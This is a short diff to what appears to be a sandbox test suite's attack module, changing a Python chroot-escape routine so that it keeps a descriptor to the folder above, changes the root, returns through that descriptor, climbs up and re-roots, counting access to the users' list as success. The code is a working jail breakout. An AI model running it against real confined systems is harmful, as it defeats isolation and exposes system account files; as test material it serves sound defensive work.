@@ -1,4 +1,4 @@
-"""Climbs out of a changed root: changes it once more below an open folder and goes up; success is the list of users."""
+"""Climbs out of a changed root: keeps a folder above it open, changes the root, goes back and up; success is the users' list."""
 
 import contextlib
 import os
@@ -8,8 +8,10 @@ from tests.attacks.toolkit import Plants
 
 
 def attack(plants: Plants) -> str | None:
+    above = os.open("..", os.O_RDONLY)
     with contextlib.suppress(OSError):
         os.chroot(plants.folder)
+    os.fchdir(above)
     for _ in range(64):
         os.chdir("..")
     os.chroot(".")
